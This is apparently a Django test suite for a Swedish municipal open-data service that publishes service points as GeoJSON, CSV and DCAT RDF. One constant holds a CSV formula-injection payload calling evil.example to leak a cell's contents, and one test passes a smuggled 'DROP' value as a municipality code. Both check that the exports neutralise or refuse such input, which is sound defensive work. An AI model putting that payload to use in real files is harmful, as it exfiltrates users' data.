import csv
import datetime
import io
import json
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
import time_machine
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.http import http_date
from rdflib import RDF, Graph, Literal, Namespace, URIRef

from followup.tests.factories import signed_agreement
from outlets.geo import SWEDEN_LATITUDE, SWEDEN_LONGITUDE
from outlets.models import Outlet
from outlets.tests.factories import OutletFactory, municipality
from public.models import PublicDataVersion
from public.opendata import COLUMN_NAMES, LICENSE_URL

pytestmark = pytest.mark.django_db

DCAT = Namespace("http://www.w3.org/ns/dcat#")
DCTERMS = Namespace("http://purl.org/dc/terms/")
FOAF = Namespace("http://xmlns.com/foaf/0.1/")
VCARD = Namespace("http://www.w3.org/2006/vcard/ns#")
CC0 = URIRef(LICENSE_URL)
HOSTILE = '=HYPERLINK("http://evil.example/"&C3,"Öppna")'
DATA_URLS = ["opendata:geojson", "opendata:csv", "opendata:dcat"]


def assert_rfc7946(document):
    """A strict check of what RFC 7946 asks of our FeatureCollection: its members,
    each Feature's type, geometry and properties, Point positions as [longitude,
    latitude] in WGS 84 (here: within Sweden, so swapped axes fail), no "crs"."""
    assert document["type"] == "FeatureCollection"
    assert isinstance(document["features"], list)
    assert "crs" not in document
    for feature in document["features"]:
        assert feature["type"] == "Feature"
        assert set(feature) <= {"type", "id", "geometry", "properties", "bbox"}
        assert {"geometry", "properties"} <= set(feature)
        assert isinstance(feature["properties"], dict)
        assert isinstance(feature.get("id", 0), (str, int))
        assert "crs" not in feature
        geometry = feature["geometry"]
        if geometry is None:
            continue  # An unlocated feature (section 3.2).
        assert geometry == {"type": "Point", "coordinates": geometry["coordinates"]}
        position = geometry["coordinates"]
        assert len(position) == 2
        assert all(isinstance(number, (int, float)) for number in position)
        longitude, latitude = position
        assert SWEDEN_LONGITUDE[0] <= longitude <= SWEDEN_LONGITUDE[1], position
        assert SWEDEN_LATITUDE[0] <= latitude <= SWEDEN_LATITUDE[1], position


def geojson(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/geo+json"
    return json.loads(response.content)


def csv_rows(response):
    """The CSV as Excel with Swedish settings reads it: UTF-8 with a byte order
    mark, semicolons."""
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv; charset=utf-8")
    assert response.content.startswith("\ufeff".encode())
    reader = csv.DictReader(
        io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"
    )
    rows = list(reader)
    assert tuple(reader.fieldnames) == COLUMN_NAMES
    return rows


def rdf(response):
    assert response.status_code == 200
    assert response["Content-Type"] == "application/rdf+xml; charset=utf-8"
    return Graph().parse(data=response.content, format="xml")


def names(document):
    return [feature["properties"]["name"] for feature in document["features"]]


@pytest.fixture
def two_municipalities(nordmaling):
    """Service points in Nordmaling (one without a position) and one in Umeå."""
    signed_agreement(OutletFactory(name="Handlarn Rundvik", latitude=63.53))
    signed_agreement(OutletFactory(name="Okänd plats", latitude=None, longitude=None))
    signed_agreement(
        OutletFactory(name="Umeå lanthandel", municipality=municipality("2480"))
    )


def test_the_geojson_is_an_rfc_7946_feature_collection_of_the_service_points(
    client, service_point_with_personal_data, two_municipalities
):
    document = geojson(client.get(reverse("opendata:geojson")))

    assert_rfc7946(document)
    assert names(document) == [
        "Handlarn Rundvik",
        "Okänd plats",
        "Sigrids Lanthandel",
        "Umeå lanthandel",
    ]
    sigrids = document["features"][2]
    assert sigrids["id"] == service_point_with_personal_data.outlet.pk
    # [longitude, latitude]: Nordmaling is at 63.57 °N, 19.50 °E.
    assert sigrids["geometry"] == {"type": "Point", "coordinates": [19.5029, 63.5681]}
    assert sigrids["properties"] == {
        "id": service_point_with_personal_data.outlet.pk,
        "name": "Sigrids Lanthandel",
        "kind": "grocery_full",
        "kind_label": "Dagligvarubutik, fullsortiment",
        "chain": "",
        "street_address": "Byvägen 12",
        "postcode": "914 90",
        "town": "Nordmaling",
        "municipality_code": "2401",
        "municipality": "Nordmalings kommun",
        "county": "Västerbottens län",
        "opening_hours": "Mån–fre 9–19, lör 10–14",
        "phone": "0930-100 20",
        "services": ["Kommunal information", "Mötesplats", "Paketutlämning"],
        "agent_roles": [],
        "in_force_since": "2026-01-01",
    }
    # A service point without a recorded position is there, unlocated.
    assert document["features"][1]["geometry"] is None


def test_the_csv_opens_with_the_documented_columns(
    client, service_point_with_personal_data, two_municipalities
):
    response = client.get(reverse("opendata:csv"))

    rows = csv_rows(response)
    assert (
        response["Content-Disposition"] == 'attachment; filename="servicepunkter.csv"'
    )
    assert [row["name"] for row in rows] == [
        "Handlarn Rundvik",
        "Okänd plats",
        "Sigrids Lanthandel",
        "Umeå lanthandel",
    ]
    sigrids = rows[2]
    assert sigrids["id"] == str(service_point_with_personal_data.outlet.pk)
    assert (sigrids["latitude"], sigrids["longitude"]) == ("63.5681", "19.5029")
    assert sigrids["street_address"] == "Byvägen 12"
    assert sigrids["municipality_code"] == "2401"
    assert sigrids["services"] == "Kommunal information; Mötesplats; Paketutlämning"
    assert sigrids["in_force_since"] == "2026-01-01"
    assert (rows[1]["latitude"], rows[1]["longitude"]) == ("", "")


def test_a_formula_looking_name_comes_out_of_the_csv_as_text(client, nordmaling):
    agreement = signed_agreement(OutletFactory(name="Butiken"))
    Outlet.objects.filter(pk=agreement.outlet_id).update(
        name=HOSTILE, opening_hours="+46 öppet", chain="@kedjan"
    )

    row = csv_rows(client.get(reverse("opendata:csv")))[0]

    assert row["name"] == "'" + HOSTILE
    assert row["opening_hours"] == "'+46 öppet"
    assert row["chain"] == "'@kedjan"
    # The GeoJSON is data, not a spreadsheet: the name as it is.
    assert names(geojson(client.get(reverse("opendata:geojson")))) == [HOSTILE]


def test_no_personal_data_leaves_in_any_file_and_the_public_facts_do(
    client, service_point_with_personal_data
):
    point = service_point_with_personal_data
    for name in DATA_URLS:
        for query in ({}, {"municipality": "2401"}):
            text = client.get(reverse(name), query).content.decode("utf-8-sig")
            leaked = [secret for secret in point.secrets if secret in text]
            assert leaked == [], (name, query)
            if name != "opendata:dcat":
                assert all(fact in text for fact in point.public), (name, query)


def test_the_municipality_parameter_filters_every_file(client, two_municipalities):
    def umea(name):
        return client.get(reverse(name), {"municipality": "2480"})

    assert names(geojson(umea("opendata:geojson"))) == ["Umeå lanthandel"]
    assert [row["name"] for row in csv_rows(umea("opendata:csv"))] == [
        "Umeå lanthandel"
    ]
    response = client.get(reverse("opendata:geojson"), {"municipality": "2401"})
    assert names(geojson(response)) == ["Handlarn Rundvik", "Okänd plats"]
    assert (
        response["Content-Disposition"]
        == 'inline; filename="servicepunkter-2401.geojson"'
    )
    # A municipality without service points: an empty collection, not an error.
    assert (
        geojson(client.get(reverse("opendata:geojson"), {"municipality": "0188"}))[
            "features"
        ]
        == []
    )


@pytest.mark.parametrize("name", DATA_URLS)
@pytest.mark.parametrize(
    ("code", "status", "message"),
    [
        ("9999", 404, "Det finns ingen kommun med koden 9999."),
        ("24O1", 400, "Kommunen anges med sin fyrsiffriga kommunkod"),
        ("2401; DROP", 400, "Kommunen anges med sin fyrsiffriga kommunkod"),
        ("24010", 400, "Kommunen anges med sin fyrsiffriga kommunkod"),
    ],
)
def test_an_unknown_or_malformed_municipality_code_is_refused_with_a_message(
    client, name, code, status, message
):
    response = client.get(reverse(name), {"municipality": code})

    assert response.status_code == status
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert message in response.content.decode()


def test_the_refusal_is_in_english_for_a_visitor_who_chose_english(client):
    client.cookies["django_language"] = "en"

    response = client.get(reverse("opendata:geojson"), {"municipality": "9999"})

    assert response.content.decode() == "There is no municipality with the code 9999.\n"


@pytest.mark.parametrize("name", DATA_URLS)
def test_the_files_state_their_licence_and_may_be_cached_a_while(
    client, name, service_point_with_personal_data
):
    response = client.get(reverse(name))

    assert response["Link"] == f'<{LICENSE_URL}>; rel="license"'
    assert response["Cache-Control"] == "public, max-age=300"
    assert response["ETag"].startswith('"')
    assert response["Last-Modified"].endswith(" GMT")
    assert response["Access-Control-Allow-Origin"] == "*"


@pytest.mark.parametrize("name", DATA_URLS)
def test_a_second_request_with_the_first_ones_validators_gets_304(
    client, name, service_point_with_personal_data
):
    first = client.get(reverse(name))

    by_date = client.get(reverse(name), HTTP_IF_MODIFIED_SINCE=first["Last-Modified"])
    by_tag = client.get(reverse(name), HTTP_IF_NONE_MATCH=first["ETag"])

    assert (by_date.status_code, by_tag.status_code) == (304, 304)
    assert by_date.content == b""
    assert by_tag["ETag"] == first["ETag"]
    assert by_tag["Cache-Control"] == "public, max-age=300"


def test_a_change_within_the_same_second_is_not_answered_304(client, nordmaling):
    """Last-Modified counts whole seconds. The triggers stamp a change with the
    clock, never before the last stamp; two changes within one second are made
    here by putting the stamps where the clock leaves them when it has not yet
    passed the second (a test left to the clock failed when it had)."""
    agreement = signed_agreement(OutletFactory(name="Gamla namnet"))
    versions = PublicDataVersion.objects.filter(municipality=nordmaling)
    second_began = versions.get().changed_at.replace(microsecond=0)
    versions.update(changed_at=second_began)
    first = client.get(reverse("opendata:geojson"))
    Outlet.objects.filter(pk=agreement.outlet_id).update(name="Nya namnet")
    versions.update(changed_at=second_began + datetime.timedelta(microseconds=1))

    second = client.get(
        reverse("opendata:geojson"),
        HTTP_IF_MODIFIED_SINCE=first["Last-Modified"],
        HTTP_IF_NONE_MATCH=first["ETag"],
    )

    assert second["Last-Modified"] == first["Last-Modified"]
    assert second.status_code == 200
    assert names(geojson(second)) == ["Nya namnet"]
    assert second["ETag"] != first["ETag"]


def test_an_agreement_coming_into_force_overnight_is_not_answered_304(
    client, nordmaling
):
    """Nothing is written on the day an agreement comes into force; the files
    change all the same, and their validators with them."""
    today = timezone.localdate()
    tomorrow = today + datetime.timedelta(days=1)
    signed_agreement(OutletFactory(name="I kraft"), starts_on=today)
    signed_agreement(OutletFactory(name="I morgon"), starts_on=tomorrow)
    before = {name: client.get(reverse(name)) for name in DATA_URLS}
    assert names(geojson(before["opendata:geojson"])) == ["I kraft"]

    midnight = timezone.make_aware(datetime.datetime.combine(tomorrow, datetime.time()))
    morning = midnight + datetime.timedelta(hours=7)
    with time_machine.travel(morning, tick=False):
        for name in DATA_URLS:
            by_date = client.get(
                reverse(name), HTTP_IF_MODIFIED_SINCE=before[name]["Last-Modified"]
            )
            by_both = client.get(
                reverse(name),
                HTTP_IF_MODIFIED_SINCE=before[name]["Last-Modified"],
                HTTP_IF_NONE_MATCH=before[name]["ETag"],
            )
            assert (by_date.status_code, by_both.status_code) == (200, 200), name
            assert by_both["Last-Modified"] == http_date(midnight.timestamp())
        after = geojson(client.get(reverse("opendata:geojson")))
    assert names(after) == ["I kraft", "I morgon"]


@pytest.mark.parametrize("name", DATA_URLS)
def test_the_files_take_as_many_queries_for_five_service_points_as_for_one(
    client, nordmaling, name
):
    def queries():
        cache.clear()
        with CaptureQueriesContext(connection) as cold:
            assert (
                client.get(reverse(name), {"municipality": "2401"}).status_code == 200
            )
        with CaptureQueriesContext(connection) as warm:
            assert (
                client.get(reverse(name), {"municipality": "2401"}).status_code == 200
            )
        return len(cold), len(warm)

    signed_agreement(OutletFactory(name="Butik 0"))
    one = queries()
    for number in range(1, 5):
        signed_agreement(OutletFactory(name=f"Butik {number}"))
    five = queries()

    assert one == five
    # Warm: the municipality and the cached data's version; the description also
    # its contact point's address.
    assert five[1] <= (3 if name == "opendata:dcat" else 2)


def triples(graph, subject, predicate):
    return set(graph.objects(subject, predicate))


def one(graph, kind):
    (subject,) = graph.subjects(RDF.type, kind)
    return subject


def test_the_dcat_description_holds_what_dcat_ap_se_requires(
    client, settings, service_point_with_personal_data
):
    settings.SITE_URL = ""
    response = client.get(reverse("opendata:dcat"), {"municipality": "2401"})
    graph = rdf(response)

    catalog, dataset = one(graph, DCAT.Catalog), one(graph, DCAT.Dataset)
    assert str(catalog) == "http://testserver/open-data/catalog.rdf?municipality=2401"
    for subject in (catalog, dataset):
        assert {
            (t.language, str(t)) for t in triples(graph, subject, DCTERMS.title)
        } == {
            ("sv", "Servicepunkter i Nordmalings kommun"),
            ("en", "Service points in Nordmaling municipality"),
        }
        descriptions = triples(graph, subject, DCTERMS.description)
        assert {text.language for text in descriptions} == {"sv", "en"}
        assert all("CC0" in text for text in descriptions)
        (publisher,) = triples(graph, subject, DCTERMS.publisher)
        assert triples(graph, publisher, FOAF.name) == {Literal("Nordmalings kommun")}
        assert triples(graph, publisher, DCTERMS.type) == {
            URIRef("http://purl.org/adms/publishertype/LocalAuthority")
        }
    assert triples(graph, catalog, DCTERMS.license) == {CC0}
    assert triples(graph, catalog, DCAT.dataset) == {dataset}
    assert triples(graph, dataset, DCAT.theme) == {
        URIRef("http://publications.europa.eu/resource/authority/data-theme/REGI"),
        URIRef("http://publications.europa.eu/resource/authority/data-theme/GOVE"),
    }
    spatial = triples(graph, dataset, DCTERMS.spatial)
    assert URIRef("http://sws.geonames.org/2661886/") in spatial
    (area,) = spatial - {URIRef("http://sws.geonames.org/2661886/")}
    assert triples(graph, area, DCTERMS.identifier) == {Literal("2401")}
    (contact,) = triples(graph, dataset, DCAT.contactPoint)
    assert triples(graph, contact, VCARD.fn) == {Literal("Nordmalings kommun")}
    assert triples(graph, contact, VCARD.hasEmail) == set()

    distributions = triples(graph, dataset, DCAT.distribution)
    downloads = {}
    for distribution in distributions:
        assert (distribution, RDF.type, DCAT.Distribution) in graph
        assert triples(graph, distribution, DCTERMS.license) == {CC0}
        (access,) = triples(graph, distribution, DCAT.accessURL)
        assert triples(graph, distribution, DCAT.downloadURL) == {access}
        (media_type,) = triples(graph, distribution, DCAT.mediaType)
        (file_format,) = triples(graph, distribution, DCTERMS["format"])
        downloads[str(media_type).rsplit("/", 2)[-2:][-1]] = (
            str(access),
            str(file_format),
        )
    assert downloads == {
        "geo+json": (
            "http://testserver/open-data/service-points.geojson?municipality=2401",
            "http://publications.europa.eu/resource/authority/file-type/GEOJSON",
        ),
        "csv": (
            "http://testserver/open-data/service-points.csv?municipality=2401",
            "http://publications.europa.eu/resource/authority/file-type/CSV",
        ),
    }
    # The addresses it gives are the files.
    for access, _format in downloads.values():
        path = urlsplit(access)
        assert client.get(f"{path.path}?{path.query}").status_code == 200


def test_a_municipalitys_description_names_its_programme_address_as_the_contact(
    client, settings, service_point_with_personal_data
):
    from statements.models import StatementSettings

    settings.OPEN_DATA_CONTACT_EMAIL = "oppnadata@servicepunkter.example"
    StatementSettings.objects.create(
        municipality=service_point_with_personal_data.outlet.municipality,
        programme_email="servicepunkter@nordmaling.example",
    )

    graph = rdf(client.get(reverse("opendata:dcat") + "?municipality=2401"))

    (contact,) = triples(graph, one(graph, DCAT.Dataset), DCAT.contactPoint)
    assert triples(graph, contact, VCARD.hasEmail) == {
        URIRef("mailto:servicepunkter@nordmaling.example")
    }


def test_the_whole_description_is_published_by_the_service_at_the_sites_address(
    client, settings, service_point_with_personal_data
):
    settings.OPEN_DATA_CONTACT_EMAIL = "oppnadata@servicepunkter.example"
    settings.SITE_URL = "https://servicepunkter.example.se/"

    graph = rdf(client.get(reverse("opendata:dcat")))

    dataset = one(graph, DCAT.Dataset)
    assert str(one(graph, DCAT.Catalog)) == (
        "https://servicepunkter.example.se/open-data/catalog.rdf"
    )
    assert triples(graph, dataset, DCAT.landingPage) == {
        URIRef("https://servicepunkter.example.se/open-data/")
    }
    (publisher,) = triples(graph, dataset, DCTERMS.publisher)
    assert triples(graph, publisher, FOAF.name) == {Literal("Servicepunkter")}
    assert triples(graph, dataset, DCTERMS.spatial) == {
        URIRef("http://sws.geonames.org/2661886/")
    }
    (contact,) = triples(graph, dataset, DCAT.contactPoint)
    assert triples(graph, contact, VCARD.hasEmail) == {
        URIRef("mailto:oppnadata@servicepunkter.example")
    }


class Links(HTMLParser):
    def __init__(self):
        super().__init__()
        self.links = []

    def handle_starttag(self, tag, attrs):
        if tag == "a":
            self.links.append(dict(attrs)["href"])


def test_the_open_data_page_describes_the_files_and_every_link_on_it_opens(
    client, two_municipalities
):
    response = client.get(reverse("opendata:index"))

    assert response.status_code == 200
    page = response.content.decode()
    assert f'href="{LICENSE_URL}" rel="license"' in page
    assert "CC0 1.0" in page
    assert all(f"<code>{column}</code>" in page for column in COLUMN_NAMES)
    assert "Senast ändrad: 20" in page, "when the public data last changed"
    again = client.get(reverse("opendata:index")).content.decode()
    assert re.findall("Senast ändrad: [^<]*", again) == re.findall(
        "Senast ändrad: [^<]*", page
    ), "the same date from the cached summary"
    parser = Links()
    parser.feed(page)
    own = [
        link
        for link in parser.links
        if link.startswith("/open-data/?")
        or (link.startswith("/open-data/") and link != "/open-data/")
    ]
    # Every municipality's files, Nordmaling's and Umeå's (the footer's link to this
    # page aside).
    assert len(own) == 9
    assert "/open-data/service-points.csv?municipality=2480" in own
    for link in own:
        assert client.get(link.replace("&amp;", "&")).status_code == 200, link


def test_a_head_request_gets_the_headers_without_the_file(
    client, service_point_with_personal_data
):
    get = client.get(reverse("opendata:csv"))

    head = client.head(reverse("opendata:csv"))

    assert head.status_code == 200
    assert head.content == b""
    assert (head["ETag"], head["Last-Modified"]) == (get["ETag"], get["Last-Modified"])


def test_the_files_are_in_swedish_for_every_visitor_so_one_scope_has_one_etag(
    client, service_point_with_personal_data
):
    swedish = client.get(reverse("opendata:geojson"))
    client.cookies["django_language"] = "en"

    english = client.get(reverse("opendata:geojson"))

    assert english["ETag"] == swedish["ETag"]
    properties = geojson(english)["features"][0]["properties"]
    assert properties["kind_label"] == "Dagligvarubutik, fullsortiment"
    assert properties["municipality"] == "Nordmalings kommun"
